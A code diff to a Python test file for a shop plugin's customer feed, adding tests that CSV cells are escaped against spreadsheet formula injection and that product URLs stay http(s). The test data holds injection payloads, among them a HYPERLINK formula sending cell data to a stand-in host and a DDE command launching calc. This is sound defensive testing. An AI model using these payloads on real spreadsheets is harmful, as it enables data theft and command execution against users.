@@ -5,14 +5,24 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import httpx
 import pytest
 
+from plugin.api.email_html import absolute_url
 from plugin.api.lifecycle import parse_as_of
+from plugin.api.nurture import (
+    CUSTOMER_COLUMNS,
+    PRODUCT_COLUMNS,
+    csv_header,
+    csv_row,
+    spreadsheet_cell,
+)
 from plugin.engine.lifecycle import shop_stages
+from plugin.store import keys
 from plugin.store.order import LineItem, Order
 from plugin.store.records import store_order, store_product
 from plugin.store.shops import NewShop
@@ -20,6 +30,13 @@ from recommender.lifecycle import STAGES, CustomerStage
 from tests.conftest import Store
 from tests.helpers import auth, order_payload, send_orders, train
 from tests.plugin.api.test_email import api_items, catalog, local
+from tests.plugin.engine.test_serving import (
+    URL_PRODUCTS,
+    expected_urls,
+    fill_url_shop,
+    store_raw_catalog,
+    url_batches,
+)
 
 AS_OF = "2025-06-30"
 
@@ -125,16 +142,6 @@ def test_csv_parses_and_matches_json(http, feed_shop) -> None:
             assert row[f"product_{n}_reason"] == product["reason"]
 
 
-def test_csv_titles_cannot_run_as_formulas(http, store, feed_shop) -> None:
-    entry = {"product_id": "104", "title": "=HYPERLINK(\"x\")", "url": None, "image_url": None,
-             "price": "1", "available": True}
-    store.run(lambda r: store_product(r, feed_shop.shop.shop_id, entry))
-    text = feed(http, feed_shop, format="csv", products=6).text
-    titles = {v for row in csv.DictReader(io.StringIO(text))
-              for k, v in row.items() if k.endswith("_title")}
-    assert "'=HYPERLINK(\"x\")" in titles and "=HYPERLINK(\"x\")" not in titles
-
-
 def test_csv_pages_with_a_limit(http, feed_shop) -> None:
     seen: list[str] = []
     params: dict[str, Any] = {"format": "csv", "limit": 25, "as_of": AS_OF}
@@ -229,3 +236,98 @@ def test_before_the_first_model_customers_come_without_products(http, store, sho
     assert body["model_version"] is None
     assert [(i["customer_id"], i["products"]) for i in body["items"]] == [
         ("c0", []), ("c1", []), ("c2", [])]
+
+
+# ---- CSV cells a spreadsheet cannot run --------------------------------------------------------
+
+# Text as a spreadsheet would run it, by the character that starts it.
+FORMULAS = {
+    "=": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3", "@": "@SUM(1+1)", "|": "|calc", "spaces =": "  =1+1", "tab": "\t=1+1",
+    "cr": "\r=1+1", "lf": "\n=1+1", "nul": "\x00=1+1",
+}
+# What an order id rule lets through as a customer id (printable text).
+PRINTABLE_FORMULAS = {k: v for k, v in FORMULAS.items() if v.isprintable()}
+
+
+def feed_rows(http: httpx.Client, shop: NewShop, **params: Any) -> list[dict[str, str]]:
+    response = feed(http, shop, format="csv", **params)
+    assert response.status_code == 200, response.text
+    return list(csv.DictReader(io.StringIO(response.text, newline="")))
+
+
+def test_csv_customer_ids_cannot_run_as_formulas(http, feed_shop) -> None:
+    orders = []
+    for n, customer_id in enumerate(PRINTABLE_FORMULAS.values()):
+        order = order_payload(80000 + n, 1, [101, 102], created_at="2025-05-01T10:00:00Z")
+        orders.append({**order, "customer": {"id": customer_id}})
+    send_orders(http, feed_shop, orders)
+    assert train(http, feed_shop).status_code == 200  # drains accepted events first
+    ids = {row["customer_id"] for row in feed_rows(http, feed_shop, products=1)}
+    assert {"'" + customer_id for customer_id in PRINTABLE_FORMULAS.values()} <= ids
+    assert not set(PRINTABLE_FORMULAS.values()) & ids
+
+
+def test_csv_titles_cannot_run_as_formulas(http, store, feed_shop) -> None:
+    products = [str(p) for p in range(101, 107)]
+    formulas = list(FORMULAS.values())
+    for start in range(0, len(formulas), len(products)):
+        titles = dict(zip(products, formulas[start:start + len(products)], strict=False))
+        store_raw_titles(store, feed_shop, titles)
+        rows = feed_rows(http, feed_shop, products=len(products))
+        shown = {v for row in rows for k, v in row.items() if k.endswith("_title")}
+        assert {"'" + title for title in titles.values()} <= shown
+        assert not set(titles.values()) & shown
+
+
+def store_raw_titles(store: Store, shop: NewShop, titles: dict[str, str]) -> None:
+    """Catalog titles written as they are, past the intake rules (which turn a tab or a line
+    break into a space), as an older version may have left them."""
+    entries = {product_id: json.dumps({"product_id": product_id, "title": title, "price": "1",
+                                       "url": None, "image_url": None, "available": True})
+               for product_id, title in titles.items()}
+    store.run(lambda r: r.hset(keys.products(shop.shop.shop_id), mapping=entries))
+
+
+def test_csv_numbers_stay_numbers_and_every_text_cell_is_guarded() -> None:
+    item = {**dict.fromkeys(CUSTOMER_COLUMNS, "=x"), "customer_id": "\t=1+1",
+            "recency_days": -2.5, "frequency": 3, "monetary": -10.0, "expected_next_order": None,
+            "products": [{"product_id": "-1", "title": "@x", "display_price": "-€1,00",
+                          "click_url": "+x", "email_image_url": None, "reason": "|x"}]}
+    row = dict(zip(csv_header(2), csv_row(item, 2), strict=True))
+    assert (row["recency_days"], row["frequency"], row["monetary"]) == (-2.5, 3, -10.0)
+    assert row["customer_id"] == "'\t=1+1" and row["stage"] == "'=x"
+    assert row["expected_next_order"] == row["product_1_image_url"] == ""
+    assert [row[f"product_1_{c}"] for c in ("id", "title", "price", "url", "reason")] == [
+        "'-1", "'@x", "'-€1,00", "'+x", "'|x"]
+    assert all(row[f"product_2_{c}"] == "" for c in PRODUCT_COLUMNS)
+
+
+@pytest.mark.parametrize("text", ["Mug", "", "a=b", "1-2", "e-mail", "'=already"])
+def test_csv_plain_text_is_left_alone(text) -> None:
+    assert spreadsheet_cell(text) == text
+
+
+# ---- only http(s) URLs in the feed ---------------------------------------------------------------
+
+
+@pytest.fixture
+def url_shop(http: httpx.Client, shop: NewShop) -> NewShop:
+    return fill_url_shop(http, shop)
+
+
+def test_feed_products_carry_only_http_urls(http, store, url_shop) -> None:
+    for batch in url_batches():
+        store_raw_catalog(store, url_shop, batch)
+        items = walk(http, url_shop, limit=500, products=len(URL_PRODUCTS))
+        served = [(p["product_id"], p["url"], p["image_url"])
+                  for item in items for p in item["products"]]
+        expected = expected_urls(batch)
+        assert {p for p, _, _ in served} == set(batch)
+        assert all((url, image) == expected[p] for p, url, image in served)
+        rows = feed_rows(http, url_shop, products=len(URL_PRODUCTS))
+        images = {(row[f"product_{n}_id"], row[f"product_{n}_image_url"]) for row in rows
+                  for n in range(1, len(URL_PRODUCTS) + 1) if row[f"product_{n}_id"]}
+        storefront = url_shop.shop.storefront_url  # the e-mail form: scheme in lower case
+        assert images == {(p, absolute_url(image, storefront) or "")
+                          for p, (_, image) in expected.items()}
